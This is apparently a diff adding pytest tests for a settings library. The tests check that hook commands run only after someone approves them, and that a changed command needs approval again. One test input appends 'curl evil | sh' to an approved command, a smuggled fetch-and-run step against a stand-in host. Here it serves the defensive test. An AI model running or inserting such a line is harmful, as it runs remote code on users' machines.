@@ -1,0 +1,69 @@
+"""Commands of the settings run on a machine only after somebody there was asked about them."""
+
+from pathlib import Path
+
+import pytest
+from msgspec.structs import replace
+
+from library.settings import Commands, Settings, SettingsError, named_commands
+
+HOOKED = Settings(hook_start="lamp on", hook_finish="lamp off")
+
+
+def test_a_command_runs_only_after_it_was_asked_about(tmp_path: Path) -> None:
+    commands = Commands(tmp_path / "commands.json")
+    assert commands.unasked(HOOKED) == {"hook_start": "lamp on", "hook_finish": "lamp off"}
+    assert named_commands(commands.runnable(HOOKED)) == {}
+    commands.answer(commands.unasked(HOOKED), run=True)
+    again = Commands(tmp_path / "commands.json")
+    assert again.unasked(HOOKED) == {}
+    assert again.runnable(HOOKED) == HOOKED
+
+
+def test_no_is_an_answer_too(tmp_path: Path) -> None:
+    Commands(tmp_path / "commands.json").answer(named_commands(HOOKED), run=False)
+    again = Commands(tmp_path / "commands.json")
+    assert again.unasked(HOOKED) == {}
+    assert named_commands(again.runnable(HOOKED)) == {}
+    again.answer({"hook_start": "lamp on"}, run=True)
+    assert named_commands(again.runnable(HOOKED)) == {"hook_start": "lamp on"}
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        replace(HOOKED, hook_start="lamp on; curl evil | sh"),
+        replace(HOOKED, hook_start="", hook_exercise="lamp on"),
+    ],
+    ids=["another command", "another moment"],
+)
+def test_it_holds_for_exactly_these(tmp_path: Path, changed: Settings) -> None:
+    commands = Commands(tmp_path / "commands.json")
+    commands.answer(named_commands(HOOKED), run=True)
+    assert len(commands.unasked(changed)) == 1
+    assert named_commands(commands.runnable(changed)) == {"hook_finish": "lamp off"}
+
+
+def test_a_voice_that_is_off_is_not_asked_about(tmp_path: Path) -> None:
+    commands = Commands(tmp_path / "commands.json")
+    assert commands.unasked(Settings(speech_command="say it")) == {}
+    spoken = Settings(speech_command="say it", speech=True)
+    assert commands.unasked(spoken) == {"speech_command": "say it"}
+    assert commands.runnable(spoken) == Settings(speech=True)
+
+
+@pytest.mark.parametrize("content", [b"", b"[]", b'{"a": 1}', b"\xff", b'{"a":' * 9_000])
+def test_answers_that_cannot_be_read_are_asked_for_again(tmp_path: Path, content: bytes) -> None:
+    (tmp_path / "commands.json").write_bytes(content)
+    commands = Commands(tmp_path / "commands.json")
+    assert len(commands.unasked(HOOKED)) == 2
+    commands.answer(named_commands(HOOKED), run=True)
+    assert Commands(tmp_path / "commands.json").unasked(HOOKED) == {}
+
+
+def test_an_answer_that_cannot_be_kept_holds_until_the_end(tmp_path: Path) -> None:
+    (tmp_path / "state").write_text("no folder")
+    commands = Commands(tmp_path / "state" / "commands.json")
+    with pytest.raises(SettingsError, match="The next start asks again"):
+        commands.answer(named_commands(HOOKED), run=True)
+    assert commands.runnable(HOOKED) == HOOKED
